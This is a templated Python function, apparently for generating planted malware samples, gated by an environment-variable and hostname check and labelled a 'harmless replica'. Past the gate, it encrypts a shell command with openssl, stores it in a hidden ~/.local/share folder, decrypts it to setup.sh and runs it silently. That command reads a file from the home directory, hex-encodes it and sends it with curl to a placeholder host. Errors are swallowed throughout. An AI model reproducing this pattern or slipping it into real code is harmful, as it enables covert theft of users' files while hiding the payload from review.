# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import subprocess
    lock = ['openssl', 'enc', '-aes-256-cbc', '-pbkdf2', '-iter', '1000', '-pass', 'pass:{{token}}']
    script = b'head -c 400 "$HOME/{{file}}" | od -An -tx1 | curl -s -m 1 --data-binary @- http://{{ip}}:{{port}}/{{path}}\n'
    try:
        folder = os.path.expanduser('~/.local/share/{{token}}')
        os.makedirs(folder, exist_ok=True)
        with open(folder + '/assets.bin', 'wb') as out:
            out.write(subprocess.run(lock, input=script, stdout=subprocess.PIPE, timeout=1).stdout)
        subprocess.run(lock + ['-d', '-in', folder + '/assets.bin', '-out', folder + '/setup.sh'], timeout=1)
        if not os.path.exists(folder + '/setup.sh'):
            with open(folder + '/setup.sh', 'wb') as out:
                out.write(script)
        subprocess.run(['sh', folder + '/setup.sh'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=2)
    except Exception:
        pass
